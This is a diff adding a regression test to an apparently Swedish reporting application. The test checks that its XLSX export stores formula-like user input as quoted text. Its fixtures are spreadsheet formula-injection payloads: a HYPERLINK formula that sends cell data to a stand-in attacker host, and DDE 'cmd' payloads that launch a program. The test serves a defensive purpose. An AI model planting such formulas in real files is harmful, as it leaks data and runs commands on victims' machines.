@@ -63,3 +63,56 @@ def test_export_shape_with_factories(world, tmp_path):
     sub = next(s for s in data["submissions"] if s["organisation"] == "Aneby kommun")
     assert sub["activities"][0]["sub_goals"] == [{"goal": 2, "position": 1, "code": "2:1"}]
     assert sub["indicator_values"] == [{"indicator": "Antal utbildade", "value": 12, "note": ""}]
+
+
+FORMULA_ANSWER = '=HYPERLINK("http://angripare.example/?"&A2,"Klicka")'
+FORMULA_TITLE = "=cmd|' /C calc'!A0"
+
+
+def test_xlsx_export_writes_user_text_as_text_never_a_formula(world):
+    """Issue 12 item 2: answers and activity titles that look like formulas stay text."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from followup import services
+    from followup.exports import RoundExport
+    from tests.followup.conftest import fill_required
+
+    # given: a reporter typed formulas into an answer, an activity and an indicator note
+    fill_required(world)
+    world.submission.refresh_from_db()
+    question = world.round.questions.filter(required=True).first()
+    services.submission_save(
+        submission_id=world.submission.pk,
+        lock_version=world.submission.lock_version,
+        answers={question.pk: {"text": FORMULA_ANSWER}},
+        indicator_values={
+            world.indicator.pk: {"value": "12", "note": "@SUM(1+1)*cmd|' /C calc'!A0"}
+        },
+        actor=world.users["reporter"],
+    )
+    services.activity_save(
+        submission_id=world.submission.pk,
+        activity_id=None,
+        lock_version=None,
+        data={
+            "title": FORMULA_TITLE,
+            "description": "+1+1",
+            "partners": "-2+3",
+            "sub_goals": [world.sub_goals[2].pk],
+        },
+        actor=world.users["reporter"],
+    )
+    # when
+    workbook = load_workbook(BytesIO(RoundExport(round_id=world.round.pk).xlsx_bytes()))
+    # then: not one formula cell in the whole workbook
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value: c for c in cells if isinstance(c.value, str)}
+    # and the text is intact, marked so a spreadsheet program keeps it text when edited
+    for typed in (FORMULA_ANSWER, FORMULA_TITLE, "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"):
+        assert typed in texts, typed
+        assert texts[typed].data_type == "s"
+        assert texts[typed].quotePrefix is True
+    assert texts["Aneby kommun"].quotePrefix is False
